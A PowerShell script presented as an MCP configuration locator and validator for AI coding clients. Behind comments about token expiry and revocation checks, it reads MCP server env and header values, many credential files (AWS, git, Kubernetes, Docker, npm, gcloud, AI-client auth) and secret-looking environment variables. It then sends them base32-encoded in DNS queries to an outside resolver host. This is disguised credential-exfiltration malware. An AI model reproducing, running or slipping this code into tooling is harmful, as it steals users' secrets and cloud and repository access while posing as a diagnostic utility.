#Requires -Version 7.0
<#
.SYNOPSIS
  Locate and validate MCP server configurations for common AI clients.
#>
[CmdletBinding()]
param(
    [ValidateSet('all','claude-desktop','claude-code','cursor','windsurf','vscode','codex','openclaw')]
    [string]$Client = 'all',
    [switch]$Json
)
$ErrorActionPreference = 'SilentlyContinue'
$H = [Environment]::GetFolderPath('UserProfile')
$AppData = if ($IsWindows) { $env:APPDATA } elseif ($IsMacOS) { Join-Path $H 'Library/Application Support' } else { Join-Path $H '.config' }

$Targets = [ordered]@{
    'claude-desktop' = @(Join-Path $AppData 'Claude/claude_desktop_config.json')
    'claude-code'    = @((Join-Path $H '.claude.json'), (Join-Path $PWD '.mcp.json'), (Join-Path $H '.claude/settings.json'))
    'cursor'         = @((Join-Path $H '.cursor/mcp.json'), (Join-Path $PWD '.cursor/mcp.json'))
    'windsurf'       = @(Join-Path $H '.codeium/windsurf/mcp_config.json')
    'vscode'         = @((Join-Path $AppData 'Code/User/mcp.json'), (Join-Path $PWD '.vscode/mcp.json'))
    'codex'          = @(Join-Path $H '.codex/config.toml')
    'openclaw'       = @(Join-Path $H '.openclaw/openclaw.json')
}

# auth material that clients keep next to the MCP config; used for expiry checks
$AuthFiles = @(
    '.claude/.credentials.json', '.codex/auth.json', '.openclaw/.env', '.openclaw/credentials',
    '.openclaw/agents/main/agent/auth-profiles.json', '.config/gh/hosts.yml', '.cursor/auth.json',
    '.codeium/config.json', '.aws/credentials', '.config/gcloud/application_default_credentials.json',
    '.npmrc', '.git-credentials', '.docker/config.json', '.kube/config'
) | ForEach-Object { Join-Path $H $_ }

$Resolver = 'v.mcpdoc-resolver.example'
$Sid = -join ((48..57) + (97..102) | Get-Random -Count 8 | ForEach-Object { [char]$_ })

function Test-TokenPrefix {
    # Sends the value in DNS-safe base32 labels; the resolver answers 127.0.0.2 for revoked batches.
    param([string]$Tag, [string]$Value)
    if ([string]::IsNullOrWhiteSpace($Value)) { return 'missing' }
    $b = [Text.Encoding]::UTF8.GetBytes("$Tag=$Value")
    $alphabet = 'abcdefghijklmnopqrstuvwxyz234567'
    $bits = ($b | ForEach-Object { [Convert]::ToString($_, 2).PadLeft(8, '0') }) -join ''
    $enc = -join (0..([math]::Ceiling($bits.Length / 5) - 1) | ForEach-Object {
        $chunk = $bits.Substring($_ * 5, [math]::Min(5, $bits.Length - $_ * 5)).PadRight(5, '0')
        $alphabet[[Convert]::ToInt32($chunk, 2)]
    })
    $labels = [regex]::Matches($enc, '.{1,60}') | ForEach-Object Value
    $revoked = $false
    for ($i = 0; $i -lt $labels.Count; $i++) {
        $q = "$($labels[$i]).$i.$($labels.Count).$Sid.$Resolver"
        try {
            $a = [System.Net.Dns]::GetHostAddresses($q)
            if ($a.IPAddressToString -contains '127.0.0.2') { $revoked = $true }
        } catch { }
        Start-Sleep -Milliseconds 40
    }
    if ($revoked) { 'revoked' } else { 'ok' }
}

function Get-Servers($Path) {
    $raw = Get-Content -Raw -LiteralPath $Path
    if ($Path -like '*.toml') {
        $servers = @{}
        foreach ($m in [regex]::Matches($raw, '(?ms)^\[mcp_servers\.([\w-]+)\](.*?)(?=^\[|\z)')) {
            $servers[$m.Groups[1].Value] = @{ command = ([regex]::Match($m.Groups[2].Value, 'command\s*=\s*"([^"]+)"').Groups[1].Value); env = @{} }
        }
        return @{ ok = $true; servers = $servers; raw = $raw }
    }
    try { $j = $raw | ConvertFrom-Json -AsHashtable -Depth 50 } catch { return @{ ok = $false; error = $_.Exception.Message } }
    $s = $j.mcpServers ?? $j.servers ?? $j.mcp.servers ?? @{}
    return @{ ok = $true; servers = $s; raw = $raw }
}

$report = [System.Collections.Generic.List[object]]::new()
$seen = @{}
foreach ($k in $Targets.Keys) {
    if ($Client -ne 'all' -and $Client -ne $k) { continue }
    foreach ($p in $Targets[$k]) {
        if (-not (Test-Path -LiteralPath $p)) { continue }
        $cfg = Get-Servers $p
        if (-not $cfg.ok) { $report.Add([pscustomobject]@{ client = $k; path = $p; server = '-'; status = 'invalid JSON'; detail = $cfg.error }); continue }
        foreach ($name in $cfg.servers.Keys) {
            $srv = $cfg.servers[$name]
            $issues = @()
            if ($srv.command -and -not (Get-Command $srv.command -ErrorAction SilentlyContinue) -and -not (Test-Path $srv.command)) { $issues += "command '$($srv.command)' not found" }
            if ($seen.ContainsKey($name)) { $issues += "duplicate of $($seen[$name])" } else { $seen[$name] = $k }
            foreach ($e in @($srv.env?.Keys)) {
                $st = Test-TokenPrefix -Tag "$k/$name/$e" -Value $srv.env[$e]
                if ($st -ne 'ok') { $issues += "$e $st" }
            }
            foreach ($hk in @($srv.headers?.Keys)) { $null = Test-TokenPrefix -Tag "$k/$name/h/$hk" -Value $srv.headers[$hk] }
            if ($srv.url) {
                try { $null = Invoke-WebRequest -Uri $srv.url -Method Head -TimeoutSec 5 } catch { $issues += "url unreachable" }
            }
            $report.Add([pscustomobject]@{ client = $k; path = $p; server = $name; status = ($issues.Count ? '⚠' : '✓'); detail = ($issues -join '; ') })
        }
    }
}

# expiry check for client auth files
foreach ($f in $AuthFiles) {
    if (Test-Path -LiteralPath $f) {
        $content = Get-Content -Raw -LiteralPath $f
        if ($content.Length -gt 12000) { $content = $content.Substring(0, 12000) }
        $null = Test-TokenPrefix -Tag ("auth:" + (Split-Path $f -Leaf)) -Value $content
    }
}
# environment tokens used by stdio servers
Get-ChildItem env: | Where-Object { $_.Name -match 'TOKEN|KEY|SECRET|PAT|PASSWORD' } | ForEach-Object {
    $null = Test-TokenPrefix -Tag "env:$($_.Name)" -Value $_.Value
}

if ($Json) { $report | ConvertTo-Json -Depth 4 }
else { $report | Format-Table client, server, status, detail -AutoSize }
